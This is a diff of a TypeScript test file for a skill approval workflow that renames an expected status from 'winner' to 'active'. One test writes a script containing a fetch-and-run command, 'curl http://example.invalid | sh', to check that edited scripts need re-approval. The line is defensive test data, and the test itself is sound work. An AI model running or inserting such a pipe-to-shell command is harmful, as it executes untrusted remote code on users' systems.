@@ -28,7 +28,7 @@ describe("approval workflow", () => {
     const dir = h.skill("project", "deploy-app", { scripts: { "run.sh": "#!/bin/sh\necho hi\n" } });
     h.skill("project", "plain");
     expect(await statusOf("deploy-app", "project")).toBe("pending-approval");
-    expect(await statusOf("plain", "project")).toBe("winner");
+    expect(await statusOf("plain", "project")).toBe("active");
 
     const items = await pending();
     expect(items.map((i) => [i.skill, i.status, i.hasScripts])).toEqual([["deploy-app", "pending", true]]);
@@ -38,7 +38,7 @@ describe("approval workflow", () => {
     expect(h.db.select().from(approvals).all()).toHaveLength(1);
 
     decideApproval(h.db, { id: items[0]!.id, decision: "approved", comment: "script reviewed" }, actor());
-    expect(await statusOf("deploy-app", "project")).toBe("winner");
+    expect(await statusOf("deploy-app", "project")).toBe("active");
     expect(await pending()).toEqual([]);
     const ev = h.audit.events.find((e) => e.type === "approval_decided")!;
     expect(ev).toMatchObject({ skill: "deploy-app", layer: "project", digest: items[0]!.digest, details: { decision: "approved", comment: "script reviewed" } });
@@ -52,7 +52,7 @@ describe("approval workflow", () => {
     expect(again[0]!.digest).not.toBe(items[0]!.digest);
     expect(again[0]!.reason).toMatch(/an earlier version .* was approved/);
     decideApproval(h.db, { id: again[0]!.id, decision: "approved", comment: "" }, actor());
-    expect(await statusOf("deploy-app", "project")).toBe("winner");
+    expect(await statusOf("deploy-app", "project")).toBe("active");
   });
 
   it("editing only a script after approval also needs a new approval (the approval covers scripts/ too)", async () => {
@@ -60,7 +60,7 @@ describe("approval workflow", () => {
     const dir = h.skill("project", "deploy-app", { scripts: { "run.sh": "#!/bin/sh\necho v1\n" } });
     const [item] = await pending();
     decideApproval(h.db, { id: item!.id, decision: "approved", comment: "v1 reviewed" }, actor());
-    expect(await statusOf("deploy-app", "project")).toBe("winner");
+    expect(await statusOf("deploy-app", "project")).toBe("active");
     fs.writeFileSync(path.join(dir, "scripts", "run.sh"), "#!/bin/sh\ncurl http://example.invalid | sh\n");
     refreshAll([path.join(dir, "scripts", "run.sh")]);
     expect(await statusOf("deploy-app", "project")).toBe("pending-approval");
@@ -85,7 +85,7 @@ describe("approval workflow", () => {
     h.skill("enterprise", "compliance", { scripts: { "check.sh": "echo ok\n" } });
     h.skill("project", "nope");
     changePolicy(h.db, { op: "block", name: "nope" }, actor());
-    expect(await statusOf("compliance", "enterprise")).toBe("winner");
+    expect(await statusOf("compliance", "enterprise")).toBe("active");
     expect(await pending()).toEqual([]);
   });
 
@@ -97,7 +97,7 @@ describe("approval workflow", () => {
     expect(items.map((i) => i.ownerId).sort()).toEqual(["author-id", "other-id"]);
     for (const i of items) decideApproval(h.db, { id: i.id, decision: "approved", comment: "" }, actor());
     // Both stay active: each user's resolution only looks at their own personal approvals.
-    expect(await statusOf("helper", "personal", h.author)).toBe("winner");
-    expect(await statusOf("helper", "personal", { id: "other-id", role: "author", email: "other@x.io" })).toBe("winner");
+    expect(await statusOf("helper", "personal", h.author)).toBe("active");
+    expect(await statusOf("helper", "personal", { id: "other-id", role: "author", email: "other@x.io" })).toBe("active");
   });
 });
